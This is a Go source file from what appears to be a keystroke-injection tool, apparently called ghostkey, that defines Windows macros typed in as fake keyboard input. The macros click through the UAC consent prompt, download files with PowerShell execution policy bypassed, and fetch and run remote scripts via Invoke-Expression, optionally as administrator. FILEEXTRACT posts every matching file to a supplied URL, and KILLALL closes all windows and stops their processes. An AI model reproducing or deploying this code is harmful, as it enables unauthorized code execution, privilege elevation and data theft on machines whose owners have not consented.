package script

import (
	"fmt"
	"strings"
	"time"

	"github.com/ghostkey/ghostkey/internal/keymap"
)

// Window/process macros. Each is a fixed canned sequence of the emission
// primitives with built-in settle delays tuned against real Windows hosts.
// They are templates, not user-composable primitives, and only the custom
// dialect exposes them.
func macroTable() map[string]handler {
	return map[string]handler{
		"RUN":                 macro(macroRun),
		"ADMIN":               macro(macroAdmin),
		"OPENNOTPAD":          macro(openProgram("notepad")),
		"OPENPOWERSHELL":      macro(openProgram("powershell")),
		"OPENPOWERSHELLADMIN": macro(openProgramAdmin("powershell")),
		"OPENCMD":             macro(openProgram("cmd")),
		"OPENCMDADMIN":        macro(openProgramAdmin("cmd")),
		"KILLAPP":             macro(macroKillApp),
		"MINIMIZE":            macro(macroMinimize),
		"SHOWDESKTOP":         macro(macroShowDesktop),
		"KILLALL":             macro(macroKillAll),
		"SAVENOTEPAD":         macro(macroSaveNotepad),
		"DOWNLOAD":            macro(macroDownload),
		"EXECPOWERSHELL":      macro(macroExecPowerShell(false)),
		"EXECPOWERSHELLADMIN": macro(macroExecPowerShell(true)),
		"EXECCMD":             macro(macroExecCmd(false)),
		"EXECCMDADMIN":        macro(macroExecCmd(true)),
		"FILEEXTRACT":         macro(macroFileExtract),
	}
}

func macro(h handler) handler {
	return func(en *Engine, cmd Command) error {
		if cmd.Dialect != DialectCustom {
			return nil
		}
		return h(en, cmd)
	}
}

// macroRun opens the Win+R run dialog and waits for it to appear.
func macroRun(en *Engine, _ Command) error {
	if err := en.emit.Combo(Combo{Gui: true, Primary: keymap.KeyR}); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)
	return nil
}

// macroAdmin triggers UAC elevation on whatever was just launched and walks
// the consent dialog via Alt+Tab and Tab focus moves.
func macroAdmin(en *Engine, _ Command) error {
	if err := en.emit.Chord([]uint8{keymap.KeyLeftCtrl, keymap.KeyLeftShift, keymap.KeyEnter}); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)

	if err := en.sink.Press(keymap.KeyLeftAlt); err != nil {
		return err
	}
	if err := en.sink.Press(keymap.KeyTab); err != nil {
		return err
	}
	en.clk.Sleep(250 * time.Millisecond)
	if err := en.sink.ReleaseAll(); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)

	for i := 0; i < 2; i++ {
		if err := en.emit.Tap(keymap.KeyTab, 250*time.Millisecond, 0); err != nil {
			return err
		}
	}
	en.clk.Sleep(500 * time.Millisecond)
	if err := en.emit.Tap(keymap.KeyEnter, en.timing.KeyHold, 0); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)
	return nil
}

func openProgram(name string) handler {
	return func(en *Engine, cmd Command) error {
		if err := macroRun(en, cmd); err != nil {
			return err
		}
		if err := en.typeCommand(name); err != nil {
			return err
		}
		en.clk.Sleep(time.Second)
		return nil
	}
}

func openProgramAdmin(name string) handler {
	open := openProgram(name)
	return func(en *Engine, cmd Command) error {
		if err := open(en, cmd); err != nil {
			return err
		}
		if err := macroAdmin(en, cmd); err != nil {
			return err
		}
		en.clk.Sleep(time.Second)
		return nil
	}
}

func macroKillApp(en *Engine, _ Command) error {
	if err := en.emit.Chord([]uint8{keymap.KeyLeftAlt, keymap.KeyF4}); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)
	return nil
}

func macroMinimize(en *Engine, _ Command) error {
	if err := en.emit.Chord([]uint8{keymap.KeyLeftGUI, keymap.KeyLeftShift, keymap.KeyM}); err != nil {
		return err
	}
	en.clk.Sleep(500 * time.Millisecond)
	return nil
}

func macroShowDesktop(en *Engine, _ Command) error {
	if err := en.emit.Combo(Combo{Gui: true, Primary: keymap.KeyD}); err != nil {
		return err
	}
	en.clk.Sleep(500 * time.Millisecond)
	return nil
}

func macroKillAll(en *Engine, cmd Command) error {
	if err := macroRun(en, cmd); err != nil {
		return err
	}
	en.clk.Sleep(500 * time.Millisecond)
	if err := en.typeCommand("cmd"); err != nil {
		return err
	}
	en.clk.Sleep(1500 * time.Millisecond)

	// Close every window, then stop every process that still owns one. The
	// command is typed in fragments with pauses so long lines survive slow
	// console input.
	fragments := []string{
		`powershell -command "`,
		`(New-Object -comObject Shell.Application).Windows() | ForEach-Object {$_.Quit()}; `,
		`Get-Process | Where-Object {$_.MainWindowTitle -ne ''} | Stop-Process"`,
	}
	for _, f := range fragments {
		if err := en.emit.TypeText(f, en.sess.Mode, 0); err != nil {
			return err
		}
		en.clk.Sleep(250 * time.Millisecond)
	}
	if err := en.emit.Tap(keymap.KeyEnter, en.timing.KeyHold, 0); err != nil {
		return err
	}
	en.clk.Sleep(500 * time.Millisecond)
	if err := en.emit.Tap(keymap.KeyEnter, en.timing.KeyHold, 0); err != nil {
		return err
	}
	en.clk.Sleep(1500 * time.Millisecond)
	return nil
}

func macroSaveNotepad(en *Engine, cmd Command) error {
	name := strings.TrimSpace(cmd.Params)
	if name == "" {
		return nil
	}
	if err := en.emit.Combo(Combo{Ctrl: true, Primary: keymap.KeyS}); err != nil {
		return err
	}
	en.clk.Sleep(500 * time.Millisecond)
	if err := en.emit.TypeText(name, en.sess.Mode, 0); err != nil {
		return err
	}
	if err := en.emit.Tap(keymap.KeyEnter, en.timing.KeyHold, 0); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)
	return nil
}

// macroDownload expects "url file" and fetches the url to the file through
// a one-line powershell invocation typed into the run dialog.
func macroDownload(en *Engine, cmd Command) error {
	fields := strings.Fields(cmd.Params)
	if len(fields) != 2 {
		return nil
	}
	if err := macroRun(en, cmd); err != nil {
		return err
	}
	line := fmt.Sprintf(
		`powershell -ExecutionPolicy Bypass -Command "(New-Object System.Net.WebClient).DownloadFile('%s', '%s')"`,
		fields[0], fields[1],
	)
	if err := en.typeCommand(line); err != nil {
		return err
	}
	en.clk.Sleep(time.Second)
	return nil
}

func macroExecPowerShell(admin bool) handler {
	return func(en *Engine, cmd Command) error {
		link := strings.TrimSpace(cmd.Params)
		if link == "" {
			return nil
		}
		open := openProgram("powershell")
		if admin {
			open = openProgramAdmin("powershell")
		}
		if err := open(en, cmd); err != nil {
			return err
		}
		line := fmt.Sprintf(`Invoke-Expression (Invoke-WebRequest -Uri "%s").Content`, link)
		return en.typeCommand(line)
	}
}

func macroExecCmd(admin bool) handler {
	return func(en *Engine, cmd Command) error {
		command := strings.TrimSpace(cmd.Params)
		if command == "" {
			return nil
		}
		open := openProgram("cmd")
		if admin {
			open = openProgramAdmin("cmd")
		}
		if err := open(en, cmd); err != nil {
			return err
		}
		return en.typeCommand(command)
	}
}

// macroFileExtract expects "path filter url" and posts every matching file
// to the url.
func macroFileExtract(en *Engine, cmd Command) error {
	fields := strings.Fields(cmd.Params)
	if len(fields) != 3 {
		return nil
	}
	open := openProgram("powershell")
	if err := open(en, cmd); err != nil {
		return err
	}
	line := fmt.Sprintf(
		`Get-ChildItem -Path "%s" -Filter "%s" | ForEach-Object { Invoke-WebRequest -Uri "%s" -Method Post -InFile $_.FullName }`,
		fields[0], fields[1], fields[2],
	)
	return en.typeCommand(line)
}
